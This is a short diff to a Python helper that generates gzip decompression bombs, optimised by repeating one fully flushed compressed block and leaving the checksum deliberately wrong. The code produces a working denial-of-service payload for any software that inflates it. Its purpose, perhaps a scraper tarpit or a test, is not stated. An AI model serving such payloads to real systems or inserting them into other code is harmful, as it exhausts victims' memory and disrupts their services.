@@ -39,7 +39,10 @@ def bomb(size: int, layers: int = 1) -> Callable[[bytes], bytes]:
 @functools.cache
 def _bomb(size: int, layers: int) -> bytes:
     packer = zlib.compressobj(9, wbits=31)
-    packed = b"".join(packer.compress(b" " * 2**20) for _ in range(size // 2**20)) + packer.flush()
+    head, block = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH), b""
+    for _ in range(2):  # the first is special
+        block = packer.compress(b" " * 2**20) + packer.flush(zlib.Z_FULL_FLUSH)
+    packed = head + block * (size // 2**20) + packer.flush()  # its checksum is wrong: nobody comes that far
     for _ in range(layers - 1):
         packed = gzip.compress(packed, 9)
     return packed
